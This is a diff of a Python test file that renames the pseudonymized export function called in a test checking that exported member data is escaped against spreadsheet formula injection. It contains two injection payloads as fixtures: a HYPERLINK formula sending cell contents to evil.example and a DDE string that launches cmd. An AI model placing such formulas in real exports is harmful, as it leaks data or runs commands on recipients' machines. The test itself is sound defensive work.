@@ -18,7 +18,7 @@ from openpyxl import load_workbook
 from qunyun.conftest import channel, message, utc
 from qunyun.ingest.pipeline import do_import_records
 from qunyun.members.models import Member
-from qunyun.members.privacy import pseudonymized_export
+from qunyun.privacy.actions import do_export_pseudonymized
 from qunyun.workspaces.models import Workspace
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
@@ -117,7 +117,7 @@ def test_the_pseudonymized_export_goes_through_the_same_writer(community: Worksp
     member.segment = "=cmd|'/C calc'"  # whatever lands in a column is written safely
     member.save(update_fields=["segment"])
 
-    with zipfile.ZipFile(io.BytesIO(pseudonymized_export(community))) as archive:
+    with zipfile.ZipFile(io.BytesIO(do_export_pseudonymized(community))) as archive:
         members = archive.read("members.csv").decode()
 
     assert "'=cmd|'/C calc'" in members
